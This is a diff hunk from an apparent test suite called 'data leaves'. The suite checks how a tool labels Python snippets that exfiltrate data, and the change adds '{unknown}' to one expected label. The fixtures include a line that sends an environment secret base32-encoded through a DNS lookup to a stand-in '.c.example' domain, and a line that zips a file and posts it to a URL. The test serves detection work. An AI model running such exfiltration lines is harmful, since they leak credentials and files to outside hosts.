@@ -69,7 +69,7 @@ describe("data leaves", () => {
     ],
     [
       `dns.resolver.resolve(base64.b32encode(os.getenv('A_KEY').encode()).decode() + '.c.example')`,
-      "send dns ~….c.example <$A_KEY> [~….c.example <$A_KEY>]",
+      "send dns ~….c.example <$A_KEY> [~….c.example <$A_KEY> {unknown}]",
     ],
     [
       `b = io.BytesIO()\nwith zipfile.ZipFile(b, 'w') as z: z.write('/tmp/a')\nrequests.post('${U}', data=b.getvalue())`,
